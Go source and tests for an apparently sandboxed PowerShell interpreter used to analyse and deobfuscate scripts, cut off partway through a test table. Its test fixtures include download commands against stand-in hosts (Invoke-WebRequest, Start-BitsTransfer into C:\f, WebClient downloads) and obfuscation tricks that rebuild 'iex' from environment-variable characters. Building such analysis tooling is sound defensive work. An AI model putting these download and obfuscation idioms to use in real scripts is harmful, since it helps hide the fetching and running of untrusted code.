func (DenyHost) TCPConnect(string, int64) error { return ErrSideEffect }

// DNSResolve implements Host.
func (DenyHost) DNSResolve(string) error { return ErrSideEffect }

// StartProcess implements Host.
func (DenyHost) StartProcess(string, []string) error { return ErrSideEffect }

// WriteFile implements Host.
func (DenyHost) WriteFile(string, string) error { return ErrSideEffect }

// RemoveItem implements Host.
func (DenyHost) RemoveItem(string) error { return ErrSideEffect }

// Sleep implements Host.
func (DenyHost) Sleep(float64) {}
