package psinterp

import (
	"strings"
	"testing"
)

// captureHost records side effects for tests without external state.
type captureHost struct {
	DenyHost
	events []string
}

func (h *captureHost) WriteHost(s string) { h.events = append(h.events, "host:"+s) }
func (h *captureHost) WebRequest(m, u string) (string, error) {
	h.events = append(h.events, "web:"+m+":"+u)
	return "body", nil
}
func (h *captureHost) DownloadFile(u, p string) error {
	h.events = append(h.events, "dl:"+u+">"+p)
	return nil
}
func (h *captureHost) StartProcess(n string, a []string) error {
	h.events = append(h.events, "proc:"+n+" "+strings.Join(a, " "))
	return nil
}
func (h *captureHost) Sleep(s float64) { h.events = append(h.events, "sleep") }
func (h *captureHost) TCPConnect(hn string, p int64) error {
	h.events = append(h.events, "tcp:"+hn)
	return nil
}

func (h *captureHost) has(sub string) bool {
	for _, e := range h.events {
		if strings.Contains(e, sub) {
			return true
		}
	}
	return false
}

func TestSideEffectCmdlets(t *testing.T) {
	host := &captureHost{}
	in := New(Options{Host: host})
	script := `Start-Sleep -Milliseconds 5
Invoke-WebRequest -Uri 'http://cover.test/a' | Out-Null
Start-Process notepad -ArgumentList 'x','y'
Start-BitsTransfer -Source 'http://cover.test/f' -Destination 'C:\f'
Write-Warning 'ignored'
Write-Host 'shown' | Out-Host
cmd /c echo hi`
	if _, err := in.EvalSnippet(script); err != nil {
		t.Fatalf("script: %v", err)
	}
	for _, want := range []string{"sleep", "web:GET:http://cover.test/a", "proc:notepad x y", "dl:http://cover.test/f", "host:shown", "proc:cmd"} {
		if !host.has(want) {
			t.Errorf("missing event %q in %v", want, host.events)
		}
	}
}

func TestCmdExePowerShellChain(t *testing.T) {
	host := &captureHost{}
	in := New(Options{Host: host})
	out, err := in.EvalSnippet(`cmd /c "powershell -Command 'write-output chained'"`)
	if err != nil {
		t.Fatal(err)
	}
	if ToString(Unwrap(out)) != "chained" {
		t.Errorf("chained output = %v", out)
	}
}

func TestInvokeWebRequestResponse(t *testing.T) {
	host := &captureHost{}
	in := New(Options{Host: host})
	out, err := in.EvalSnippet("(Invoke-WebRequest 'http://r.test').Content")
	if err != nil {
		t.Fatal(err)
	}
	if ToString(Unwrap(out)) != "body" {
		t.Errorf("content = %v", out)
	}
}

func TestConvertFromSecureStringScript(t *testing.T) {
	src := `$ss = ConvertTo-SecureString 'plain' -AsPlainText -Force
$enc = ConvertFrom-SecureString -SecureString $ss -Key (1..16)
$back = ConvertTo-SecureString -String $enc -Key (1..16)
[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($back))`
	if got := eval(t, src); got != "plain" {
		t.Errorf("securestring pipeline = %q", got)
	}
}

func TestSetVarGetVar(t *testing.T) {
	in := New(Options{})
	in.SetVar("preset", "value")
	out, err := in.EvalSnippet("$preset + '!'")
	if err != nil {
		t.Fatal(err)
	}
	if ToString(Unwrap(out)) != "value!" {
		t.Errorf("preset = %v", out)
	}
	if v, ok := in.GetVar("preset"); !ok || v != "value" {
		t.Errorf("GetVar = %v %v", v, ok)
	}
}

func TestSetIndexForms(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$a = 1,2,3; $a[-1] = 9; $a -join ''", "129"},
		{"$b = [byte[]](1,2); $b[0] = 7; $b -join ','", "7,2"},
		{"$h = @{}; $h[5] = 'five'; $h['5']", "five"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
	in := New(Options{})
	if _, err := in.EvalSnippet("$a = 1,2; $a[9] = 1"); err == nil {
		t.Error("out-of-range assignment should fail")
	}
}

func TestSetPropertyForms(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$wc = New-Object Net.WebClient; $wc.UserAgent = 'UA1'; $wc.UserAgent", "UA1"},
		{"$h = @{}; $h.newkey = 3; $h['newkey']", "3"},
		{"[Net.ServicePointManager]::SecurityProtocol = 'Tls12'; 'ok'", "ok"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestAutomaticVariableSurface(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$shellid", "Microsoft.PowerShell"},
		{"$home", "C:\\Users\\user"},
		{"$pid", "4242"},
		{"$psversiontable['PSEdition']", "Desktop"},
		{"$psculture", "en-US"},
		{"$erroractionpreference", "Continue"},
		{"$verbosepreference", "SilentlyContinue"},
		{"$host.Name", "ConsoleHost"},
		{"$ofs", " "},
		{"($error).Count", "0"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestDynamicMemberNames(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$p = 'Length'; 'hello'.$p", "5"},
		{"$m = 'ToUpper'; 'x'.$m()", "X"},
		{"'hi'.('Len'+'gth')", "2"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestValueHelpers(t *testing.T) {
	if !IsStringLike("s") || !IsStringLike(int64(1)) || !IsStringLike(Char('c')) ||
		IsStringLike([]any{}) || IsStringLike(nil) {
		t.Error("IsStringLike broken")
	}
	if ToBool(Bytes{1}) != true || ToBool(&Hashtable{}) != true ||
		ToBool([]any{}) != false || ToBool([]any{false}) != false ||
		ToBool(Char(0)) != false {
		t.Error("ToBool broken")
	}
	sb := &ScriptBlockValue{Text: " body "}
	if sb.String() != " body " {
		t.Error("ScriptBlockValue.String")
	}
	ss := &SecureString{Plain: "x"}
	if ss.String() != "System.Security.SecureString" {
		t.Error("SecureString.String")
	}
	if runtimeTypeName(3.5) != "System.Double" || runtimeTypeName(true) != "System.Boolean" ||
		runtimeTypeName(Bytes{}) != "System.Byte[]" || runtimeTypeName(nil) != "" {
		t.Error("runtimeTypeName broken")
	}
}

func TestFormatGroupThousands(t *testing.T) {
	tests := []struct{ src, want string }{
		{"'{0:N0}' -f 1234567", "1,234,567"},
		{"'{0:N2}' -f 1234.5", "1,234.50"},
		{"'{0:N0}' -f -9876", "-9,876"},
		{"'{0:F1}' -f 2.25", "2.2"},
		{"'{0:F}' -f 3", "3.00"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestArrayStatics(t *testing.T) {
	tests := []struct{ src, want string }{
		{"$a = 3,1,2; [array]::Sort($a); $a -join ''", "123"},
		{"[array]::IndexOf((5,6,7), 6)", "1"},
		{"$b = [byte[]](1,2,3); [array]::Reverse($b); $b -join ''", "321"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestErrorStrings(t *testing.T) {
	if (&UnknownVariableError{Name: "v"}).Error() == "" {
		t.Error("empty error text")
	}
	if (&flowSignal{kind: flowBreak}).Error() == "" {
		t.Error("empty flow text")
	}
}
