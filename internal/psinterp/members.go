package psinterp

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"fmt"
	"io"
	"strings"
	"unicode/utf16"
)

// getProperty implements instance property access (target.Name).
func (in *Interp) getProperty(target any, name string) (any, error) {
	n := strings.ToLower(name)
	switch t := target.(type) {
	case string:
		switch n {
		case "length", "count":
			return int64(len([]rune(t))), nil
		}
	case []any:
		switch n {
		case "length", "count":
			return int64(len(t)), nil
		case "rank":
			return int64(1), nil
		}
		// Member access on an array projects the member over elements.
		out := make([]any, 0, len(t))
		for _, item := range t {
			v, err := in.getProperty(item, name)
			if err != nil {
				return nil, err
			}
			out = append(out, v)
		}
		return out, nil
	case Bytes:
		switch n {
		case "length", "count":
			return int64(len(t)), nil
		}
	case Char:
		if n == "length" || n == "count" {
			return int64(1), nil
		}
	case int64, float64, bool:
		if n == "length" || n == "count" {
			return int64(1), nil
		}
	case *Hashtable:
		switch n {
		case "count", "length":
			return int64(t.Len()), nil
		case "keys":
			keys := t.Keys()
			out := make([]any, len(keys))
			for i, k := range keys {
				out[i] = k
			}
			return out, nil
		case "values":
			keys := t.Keys()
			out := make([]any, len(keys))
			for i, k := range keys {
				out[i], _ = t.Get(k)
			}
			return out, nil
		default:
			v, _ := t.Get(name)
			return v, nil
		}
	case *ScriptBlockValue:
		if n == "length" || n == "count" {
			return int64(1), nil
		}
		if n == "ast" {
			return t, nil
		}
	case *SecureString:
		if n == "length" {
			return int64(len(t.Plain)), nil
		}
	case TypeValue:
		switch n {
		case "name":
			parts := strings.Split(t.Name, ".")
			return parts[len(parts)-1], nil
		case "fullname":
			return t.Name, nil
		case "assembly":
			return NewObject("System.Reflection.Assembly"), nil
		}
	case *Object:
		return in.objectProperty(t, n)
	case nil:
		return nil, fmt.Errorf("psinterp: property %q on null", name)
	}
	return nil, fmt.Errorf("%w: property %q on %T", ErrUnsupported, name, target)
}

func (in *Interp) objectProperty(o *Object, n string) (any, error) {
	if v, ok := o.Props[n]; ok {
		return v, nil
	}
	switch o.TypeName {
	case "System.Net.WebClient":
		switch n {
		case "headers", "querystring":
			h := NewHashtable()
			o.Props[n] = h
			return h, nil
		case "encoding":
			return newEncoding("utf8"), nil
		case "proxy", "credentials", "cachepolicy", "useragent":
			return nil, nil
		}
	case "System.Management.Automation.EngineIntrinsics":
		switch n {
		case "invokecommand":
			return NewObject("System.Management.Automation.CommandInvocationIntrinsics"), nil
		case "sessionstate":
			return NewObject("System.Management.Automation.SessionState"), nil
		}
	case "System.Management.Automation.PSVariable":
		switch n {
		case "name", "value", "description":
			return o.Props[n], nil
		}
	case "System.IO.MemoryStream":
		switch n {
		case "length":
			if b, ok := o.Data.(Bytes); ok {
				return int64(len(b)), nil
			}
		case "position":
			return int64(0), nil
		}
	case "System.Uri":
		switch n {
		case "absoluteuri", "originalstring":
			return ToString(o.Data), nil
		case "host":
			return uriHost(ToString(o.Data)), nil
		}
	}
	// Unset known-benign properties read as null.
	return nil, fmt.Errorf("%w: property %q on %s", ErrUnsupported, n, o.TypeName)
}

func uriHost(u string) string {
	s := u
	if i := strings.Index(s, "://"); i >= 0 {
		s = s[i+3:]
	}
	for _, sep := range []byte{'/', ':', '?'} {
		if i := strings.IndexByte(s, sep); i >= 0 {
			s = s[:i]
		}
	}
	return s
}

// setProperty implements property assignment.
func (in *Interp) setProperty(target any, name string, value any) error {
	switch t := target.(type) {
	case *Object:
		t.Props[strings.ToLower(name)] = value
		return nil
	case *Hashtable:
		t.Set(name, value)
		return nil
	case TypeValue:
		// Static property assignment (e.g. ServicePointManager's
		// SecurityProtocol) is accepted and ignored.
		return nil
	}
	return fmt.Errorf("%w: set property %q on %T", ErrUnsupported, name, target)
}

// invokeMethod implements instance method calls.
func (in *Interp) invokeMethod(target any, name string, args []any, sc *scope) (any, error) {
	n := strings.ToLower(name)
	// Universal object methods.
	switch n {
	case "tostring":
		if len(args) >= 1 {
			if num, err := ToInt(target); err == nil {
				// number.ToString("X2") style.
				s, ferr := applyFormatSpec(num, ToString(args[0]))
				if ferr == nil {
					return s, nil
				}
			}
		}
		if sb, ok := target.(*ScriptBlockValue); ok {
			return sb.Text, nil
		}
		return ToString(target), nil
	case "gettype":
		return TypeValue{Name: runtimeTypeName(target)}, nil
	case "equals":
		if len(args) >= 1 {
			return DeepEqualFold(target, args[0]), nil
		}
		return false, nil
	case "gethashcode":
		return int64(len(ToString(target))), nil
	}
	switch t := target.(type) {
	case string:
		return in.stringMethod(t, n, args)
	case Char:
		return in.stringMethod(string(rune(t)), n, args)
	case []any:
		return in.arrayMethod(t, n, args)
	case Bytes:
		arr := ToArray(t)
		return in.arrayMethod(arr, n, args)
	case *Hashtable:
		return hashtableMethod(t, n, args)
	case *ScriptBlockValue:
		switch n {
		case "invoke", "invokereturnasis":
			out, err := in.InvokeScriptBlock(t, args, nil, in.global)
			if err != nil {
				return nil, err
			}
			if n == "invokereturnasis" {
				return Unwrap(out), nil
			}
			// Invoke returns a collection.
			return out, nil
		case "getnewclosure":
			return t, nil
		case "createdelegate":
			return t, nil
		}
	case *Object:
		return in.objectMethod(t, n, args, sc)
	case int64, float64:
		switch n {
		case "compareto":
			if len(args) >= 1 {
				return int64(compareOp(target, args[0], false)), nil
			}
		}
	case *SecureString:
		if n == "copy" {
			return &SecureString{Plain: t.Plain}, nil
		}
	}
	return nil, fmt.Errorf("%w: method %q on %T", ErrUnsupported, name, target)
}

func runtimeTypeName(v any) string {
	switch v.(type) {
	case string:
		return "System.String"
	case int64, int:
		return "System.Int32"
	case float64:
		return "System.Double"
	case bool:
		return "System.Boolean"
	case Char:
		return "System.Char"
	case []any:
		return "System.Object[]"
	case Bytes:
		return "System.Byte[]"
	case *Hashtable:
		return "System.Collections.Hashtable"
	case *ScriptBlockValue:
		return "System.Management.Automation.ScriptBlock"
	case *SecureString:
		return "System.Security.SecureString"
	case *Object:
		return v.(*Object).TypeName
	case nil:
		return ""
	}
	return fmt.Sprintf("%T", v)
}

func (in *Interp) stringMethod(s, n string, args []any) (any, error) {
	argStr := func(i int) string {
		if i < len(args) {
			return ToString(args[i])
		}
		return ""
	}
	argInt := func(i int) (int, error) {
		if i >= len(args) {
			return 0, fmt.Errorf("psinterp: missing argument %d", i)
		}
		v, err := ToInt(args[i])
		return int(v), err
	}
	switch n {
	case "toupper", "toupperinvariant":
		return strings.ToUpper(s), nil
	case "tolower", "tolowerinvariant":
		return strings.ToLower(s), nil
	case "replace":
		out := strings.ReplaceAll(s, argStr(0), argStr(1))
		if err := in.chargeString(len(out)); err != nil {
			return nil, err
		}
		return out, nil
	case "split":
		if len(args) == 0 {
			return splitWhitespace(s), nil
		}
		var seps []string
		for _, a := range args {
			switch av := a.(type) {
			case []any:
				for _, e := range av {
					seps = append(seps, ToString(e))
				}
			case Char:
				seps = append(seps, string(rune(av)))
			case string:
				for _, r := range av {
					// String.Split(string) splits on each character in
					// .NET's char[] overload.
					seps = append(seps, string(r))
				}
			default:
				seps = append(seps, ToString(a))
			}
		}
		pieces := splitAny(s, seps)
		out := make([]any, len(pieces))
		for i, p := range pieces {
			out[i] = p
		}
		return out, nil
	case "substring":
		start, err := argInt(0)
		if err != nil {
			return nil, err
		}
		runes := []rune(s)
		if start < 0 || start > len(runes) {
			return nil, fmt.Errorf("psinterp: substring start %d out of range", start)
		}
		if len(args) >= 2 {
			length, err := argInt(1)
			if err != nil {
				return nil, err
			}
			if length < 0 || start+length > len(runes) {
				return nil, fmt.Errorf("psinterp: substring length %d out of range", length)
			}
			return string(runes[start : start+length]), nil
		}
		return string(runes[start:]), nil
	case "trim":
		if len(args) == 0 {
			return strings.TrimSpace(s), nil
		}
		return strings.Trim(s, trimSet(args)), nil
	case "trimstart":
		if len(args) == 0 {
			return strings.TrimLeft(s, " \t\r\n"), nil
		}
		return strings.TrimLeft(s, trimSet(args)), nil
	case "trimend":
		if len(args) == 0 {
			return strings.TrimRight(s, " \t\r\n"), nil
		}
		return strings.TrimRight(s, trimSet(args)), nil
	case "startswith":
		if len(args) >= 2 {
			return strings.HasPrefix(strings.ToLower(s), strings.ToLower(argStr(0))), nil
		}
		return strings.HasPrefix(s, argStr(0)), nil
	case "endswith":
		if len(args) >= 2 {
			return strings.HasSuffix(strings.ToLower(s), strings.ToLower(argStr(0))), nil
		}
		return strings.HasSuffix(s, argStr(0)), nil
	case "contains":
		return strings.Contains(s, argStr(0)), nil
	case "indexof":
		return int64(strings.Index(s, argStr(0))), nil
	case "lastindexof":
		return int64(strings.LastIndex(s, argStr(0))), nil
	case "tochararray":
		out := make([]any, 0, len(s))
		for _, r := range s {
			out = append(out, Char(r))
		}
		return out, nil
	case "padleft":
		width, err := argInt(0)
		if err != nil {
			return nil, err
		}
		if width > in.opts.MaxStringLen {
			return nil, ErrBudget
		}
		pad := " "
		if len(args) >= 2 {
			pad = ToString(args[1])
		}
		if pad != "" && len(s) < width {
			if err := in.charge(width); err != nil {
				return nil, err
			}
			var sb strings.Builder
			sb.Grow(width)
			for sb.Len()+len(s) < width {
				sb.WriteString(pad)
			}
			sb.WriteString(s)
			s = sb.String()
		}
		return s, nil
	case "padright":
		width, err := argInt(0)
		if err != nil {
			return nil, err
		}
		if width > in.opts.MaxStringLen {
			return nil, ErrBudget
		}
		pad := " "
		if len(args) >= 2 {
			pad = ToString(args[1])
		}
		if pad != "" && len(s) < width {
			if err := in.charge(width); err != nil {
				return nil, err
			}
			var sb strings.Builder
			sb.Grow(width)
			sb.WriteString(s)
			for sb.Len() < width {
				sb.WriteString(pad)
			}
			s = sb.String()
		}
		return s, nil
	case "remove":
		start, err := argInt(0)
		if err != nil {
			return nil, err
		}
		runes := []rune(s)
		if start < 0 || start > len(runes) {
			return nil, fmt.Errorf("psinterp: remove start out of range")
		}
		if len(args) >= 2 {
			count, err := argInt(1)
			if err != nil {
				return nil, err
			}
			if count < 0 || start+count > len(runes) {
				return nil, fmt.Errorf("psinterp: remove count out of range")
			}
			return string(runes[:start]) + string(runes[start+count:]), nil
		}
		return string(runes[:start]), nil
	case "insert":
		at, err := argInt(0)
		if err != nil {
			return nil, err
		}
		runes := []rune(s)
		if at < 0 || at > len(runes) {
			return nil, fmt.Errorf("psinterp: insert position out of range")
		}
		return string(runes[:at]) + argStr(1) + string(runes[at:]), nil
	case "normalize":
		return s, nil
	case "chars":
		i, err := argInt(0)
		if err != nil {
			return nil, err
		}
		runes := []rune(s)
		if i < 0 || i >= len(runes) {
			return nil, fmt.Errorf("psinterp: chars index out of range")
		}
		return Char(runes[i]), nil
	case "compareto":
		return int64(strings.Compare(s, argStr(0))), nil
	case "clone":
		return s, nil
	case "getenumerator":
		out := make([]any, 0, len(s))
		for _, r := range s {
			out = append(out, Char(r))
		}
		return out, nil
	}
	return nil, fmt.Errorf("%w: string method %q", ErrUnsupported, n)
}

func trimSet(args []any) string {
	var sb strings.Builder
	for _, a := range args {
		for _, item := range ToArray(a) {
			sb.WriteString(ToString(item))
		}
	}
	return sb.String()
}

// splitAny splits s on any of the separator strings.
func splitAny(s string, seps []string) []string {
	parts := []string{s}
	for _, sep := range seps {
		if sep == "" {
			continue
		}
		var next []string
		for _, p := range parts {
			next = append(next, strings.Split(p, sep)...)
		}
		parts = next
	}
	return parts
}

func (in *Interp) arrayMethod(arr []any, n string, args []any) (any, error) {
	switch n {
	case "contains":
		for _, v := range arr {
			if DeepEqualFold(v, firstArg(args)) {
				return true, nil
			}
		}
		return false, nil
	case "indexof":
		for i, v := range arr {
			if DeepEqualFold(v, firstArg(args)) {
				return int64(i), nil
			}
		}
		return int64(-1), nil
	case "getvalue":
		i, err := ToInt(firstArg(args))
		if err != nil {
			return nil, err
		}
		return indexValue(arr, i)
	case "clone":
		return append([]any(nil), arr...), nil
	case "getlength":
		return int64(len(arr)), nil
	case "join":
		return strings.Join(toStrings(arr), ToString(firstArg(args))), nil
	}
	return nil, fmt.Errorf("%w: array method %q", ErrUnsupported, n)
}

func toStrings(arr []any) []string {
	out := make([]string, len(arr))
	for i, v := range arr {
		out[i] = ToString(v)
	}
	return out
}

func hashtableMethod(h *Hashtable, n string, args []any) (any, error) {
	switch n {
	case "add", "set_item":
		if len(args) >= 2 {
			h.Set(ToString(args[0]), args[1])
		}
		return nil, nil
	case "containskey", "contains":
		_, ok := h.Get(ToString(firstArg(args)))
		return ok, nil
	case "containsvalue":
		for _, k := range h.Keys() {
			v, _ := h.Get(k)
			if DeepEqualFold(v, firstArg(args)) {
				return true, nil
			}
		}
		return false, nil
	case "get_item":
		v, _ := h.Get(ToString(firstArg(args)))
		return v, nil
	case "remove":
		key := strings.ToLower(ToString(firstArg(args)))
		for i, k := range h.keys {
			if strings.ToLower(k) == key {
				h.keys = append(h.keys[:i], h.keys[i+1:]...)
				break
			}
		}
		delete(h.values, key)
		return nil, nil
	case "clear":
		h.keys = nil
		h.values = make(map[string]any)
		return nil, nil
	}
	return nil, fmt.Errorf("%w: hashtable method %q", ErrUnsupported, n)
}

func (in *Interp) objectMethod(o *Object, n string, args []any, sc *scope) (any, error) {
	switch o.TypeName {
	case "System.Net.WebClient":
		switch n {
		case "downloadstring":
			return in.host.DownloadString(ToString(firstArg(args)))
		case "downloadfile":
			if len(args) >= 2 {
				return nil, in.host.DownloadFile(ToString(args[0]), ToString(args[1]))
			}
			return nil, in.host.DownloadFile(ToString(firstArg(args)), "")
		case "downloaddata":
			return in.host.DownloadData(ToString(firstArg(args)))
		case "openread":
			b, err := in.host.DownloadData(ToString(firstArg(args)))
			if err != nil {
				return nil, err
			}
			return newMemoryStream(b), nil
		case "uploadstring", "uploaddata":
			if len(args) >= 2 {
				return in.host.WebRequest("POST", ToString(args[0]))
			}
		case "dispose", "addheader":
			return nil, nil
		}
	case "System.IO.MemoryStream":
		switch n {
		case "toarray":
			if b, ok := o.Data.(Bytes); ok {
				return b, nil
			}
			return Bytes{}, nil
		case "close", "dispose", "flush", "seek", "setlength":
			return nil, nil
		case "write":
			if len(args) >= 1 {
				b, err := in.castValue("byte[]", args[0])
				if err != nil {
					return nil, err
				}
				cur, _ := o.Data.(Bytes)
				o.Data = append(cur, b.(Bytes)...)
			}
			return nil, nil
		}
	case "System.IO.Compression.DeflateStream", "System.IO.Compression.GZipStream":
		switch n {
		case "close", "dispose", "flush":
			return nil, nil
		case "read":
			return int64(0), nil
		case "copyto":
			if dst, ok := firstArg(args).(*Object); ok && dst.TypeName == "System.IO.MemoryStream" {
				if b, ok := o.Data.(Bytes); ok {
					cur, _ := dst.Data.(Bytes)
					dst.Data = append(cur, b...)
				}
			}
			return nil, nil
		}
	case "System.IO.StreamReader":
		switch n {
		case "readtoend":
			return ToString(o.Data), nil
		case "readline":
			s := ToString(o.Data)
			if i := strings.IndexByte(s, '\n'); i >= 0 {
				o.Data = s[i+1:]
				return strings.TrimRight(s[:i], "\r"), nil
			}
			o.Data = ""
			return s, nil
		case "close", "dispose":
			return nil, nil
		}
	case "System.Text.Encoding":
		variant := ToString(o.Data)
		switch n {
		case "getstring":
			b, err := in.castValue("byte[]", firstArg(args))
			if err != nil {
				return nil, err
			}
			return decodeBytes(variant, b.(Bytes)), nil
		case "getbytes":
			return encodeString(variant, ToString(firstArg(args))), nil
		case "getchars":
			b, err := in.castValue("byte[]", firstArg(args))
			if err != nil {
				return nil, err
			}
			s := decodeBytes(variant, b.(Bytes))
			out := make([]any, 0, len(s))
			for _, r := range s {
				out = append(out, Char(r))
			}
			return out, nil
		}
	case "System.Management.Automation.CommandInvocationIntrinsics":
		switch n {
		case "newscriptblock":
			return in.castValue("scriptblock", ToString(firstArg(args)))
		case "invokescript":
			return in.invokeNestedScript(ToString(firstArg(args)))
		case "expandstring":
			return ToString(firstArg(args)), nil
		case "getcommand", "getcmdlet":
			name := ToString(firstArg(args))
			c := NewObject("System.Management.Automation.CmdletInfo")
			c.Props["name"] = name
			return c, nil
		}
	case "System.Random":
		switch n {
		case "next":
			in.markImpure("nondeterminism: System.Random.Next")
			state, _ := o.Data.(int64)
			state = state*6364136223846793005 + 1442695040888963407
			o.Data = state
			v := (state >> 33) & 0x7FFFFFFF
			switch len(args) {
			case 1:
				maxV, err := ToInt(args[0])
				if err != nil || maxV <= 0 {
					return int64(0), nil
				}
				return v % maxV, nil
			case 2:
				minV, err1 := ToInt(args[0])
				maxV, err2 := ToInt(args[1])
				if err1 != nil || err2 != nil || maxV <= minV {
					return minV, nil
				}
				return minV + v%(maxV-minV), nil
			default:
				return v, nil
			}
		}
	case "System.Net.Sockets.TcpClient":
		switch n {
		case "connect":
			hostName := ToString(firstArg(args))
			var port int64
			if len(args) >= 2 {
				port, _ = ToInt(args[1])
			}
			return nil, in.host.TCPConnect(hostName, port)
		case "getstream":
			return NewObject("System.Net.Sockets.NetworkStream"), nil
		case "close", "dispose":
			return nil, nil
		}
	case "System.Diagnostics.Process":
		switch n {
		case "start":
			return nil, in.host.StartProcess(ToString(o.Props["filename"]), nil)
		case "kill", "close", "waitforexit":
			return nil, nil
		}
	}
	// Benign universal no-ops.
	switch n {
	case "dispose", "close":
		return nil, nil
	}
	return nil, fmt.Errorf("%w: method %q on %s", ErrUnsupported, n, o.TypeName)
}

// invokeNestedScript evaluates a script string (InvokeScript,
// Invoke-Expression) with the depth guard.
func (in *Interp) invokeNestedScript(src string) (any, error) {
	if in.opts.EngineScriptHook != nil {
		// A replay from the evaluation cache would not re-fire the hook.
		in.markImpure("engine-script hook observed code")
		in.opts.EngineScriptHook(src)
	}
	if in.depth >= in.opts.MaxDepth {
		return nil, ErrBudget
	}
	in.depth++
	defer func() { in.depth-- }()
	out, err := in.EvalSnippet(src)
	if err != nil {
		return nil, err
	}
	return Unwrap(out), nil
}

// decodeBytes decodes a byte slice using a simulated .NET encoding.
func decodeBytes(variant string, b Bytes) string {
	switch variant {
	case "unicode":
		u16 := make([]uint16, 0, len(b)/2)
		for i := 0; i+1 < len(b); i += 2 {
			u16 = append(u16, uint16(b[i])|uint16(b[i+1])<<8)
		}
		return string(utf16.Decode(u16))
	case "bigendianunicode":
		u16 := make([]uint16, 0, len(b)/2)
		for i := 0; i+1 < len(b); i += 2 {
			u16 = append(u16, uint16(b[i])<<8|uint16(b[i+1]))
		}
		return string(utf16.Decode(u16))
	case "utf32":
		runes := make([]rune, 0, len(b)/4)
		for i := 0; i+3 < len(b); i += 4 {
			runes = append(runes, rune(uint32(b[i])|uint32(b[i+1])<<8|uint32(b[i+2])<<16|uint32(b[i+3])<<24))
		}
		return string(runes)
	case "ascii":
		out := make([]byte, len(b))
		for i, c := range b {
			out[i] = c & 0x7F
		}
		return string(out)
	default: // utf8, default, utf7
		return string(b)
	}
}

// encodeString encodes a string using a simulated .NET encoding.
func encodeString(variant, s string) Bytes {
	switch variant {
	case "unicode":
		u16 := utf16.Encode([]rune(s))
		out := make(Bytes, 0, len(u16)*2)
		for _, u := range u16 {
			out = append(out, byte(u), byte(u>>8))
		}
		return out
	case "bigendianunicode":
		u16 := utf16.Encode([]rune(s))
		out := make(Bytes, 0, len(u16)*2)
		for _, u := range u16 {
			out = append(out, byte(u>>8), byte(u))
		}
		return out
	case "utf32":
		out := make(Bytes, 0, len(s)*4)
		for _, r := range s {
			out = append(out, byte(r), byte(r>>8), byte(r>>16), byte(r>>24))
		}
		return out
	case "ascii":
		out := make(Bytes, 0, len(s))
		for _, r := range s {
			if r > 127 {
				out = append(out, '?')
			} else {
				out = append(out, byte(r))
			}
		}
		return out
	default:
		return Bytes(s)
	}
}

// decompress inflates data with the given algorithm ("deflate" or
// "gzip"), bounding output size.
func decompress(algorithm string, data Bytes, maxLen int) (Bytes, error) {
	var r io.Reader
	switch algorithm {
	case "gzip":
		gz, err := gzip.NewReader(bytes.NewReader(data))
		if err != nil {
			return nil, fmt.Errorf("psinterp: gzip: %v", err)
		}
		defer gz.Close()
		r = gz
	default:
		fr := flate.NewReader(bytes.NewReader(data))
		defer fr.Close()
		r = fr
	}
	out, err := io.ReadAll(io.LimitReader(r, int64(maxLen)+1))
	if err != nil {
		return nil, fmt.Errorf("psinterp: decompress: %v", err)
	}
	if len(out) > maxLen {
		return nil, ErrBudget
	}
	return Bytes(out), nil
}

// compress deflate- or gzip-compresses data.
func compress(algorithm string, data Bytes) (Bytes, error) {
	var buf bytes.Buffer
	var w io.WriteCloser
	switch algorithm {
	case "gzip":
		w = gzip.NewWriter(&buf)
	default:
		fw, err := flate.NewWriter(&buf, flate.DefaultCompression)
		if err != nil {
			return nil, err
		}
		w = fw
	}
	if _, err := w.Write(data); err != nil {
		return nil, err
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	return Bytes(buf.Bytes()), nil
}
