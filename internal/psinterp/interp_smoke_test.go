package psinterp

import "testing"

func TestInterpSmoke(t *testing.T) {
	cases := []struct {
		src  string
		want string
	}{
		{`'he'+'llo'`, "hello"},
		{`"{2}{0}{1}" -f 'ost h', 'ello', 'write-h'`, "write-host hello"},
		{`[string][char]39`, "'"},
		{`[char]72`, "H"},
		{`$pshome[4]+$pshome[30]+'x'`, "iex"},
		{`$env:comspec[4,24,25] -join ''`, "Iex"},
		{`( 'Kanga' -split 'n' ) -join 'X'`, "KaXga"},
		{`'abcdef'.Substring(2,3)`, "cde"},
		{`'hello'.ToUpper()`, "HELLO"},
		{`[convert]::ToInt32('4B',16)`, "75"},
		{`( '34S56' -split 'S' | foreach-object { [char]([int]$_ - 1) } ) -join ''`, "!7"},
		{`[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))`, "hi"},
		{`-join ('olleh'[4..0])`, "hello"},
		{`('hel'+'lo').replace('l','L')`, "heLLo"},
		{`"interp $(1+2) ok"`, "interp 3 ok"},
		{`$a='wor'; $b='ld'; "hello $a$b"`, "hello world"},
		{`('a','b','c' | sort-object -descending) -join ''`, "cba"},
		{`[math]::floor(3.7)`, "3"},
		{`(1..5 | where-object { $_ -gt 3 }) -join ','`, "4,5"},
		{`[string]::join('-', ('x','y','z'))`, "x-y-z"},
		{`$s='STATIC'; $s.ToLower()`, "static"},
		{`iex "'nested'+'!'"`, "nested!"},
		{`$arr = 99,104,97,105; ($arr | %{ [char]$_ }) -join ''`, "chai"},
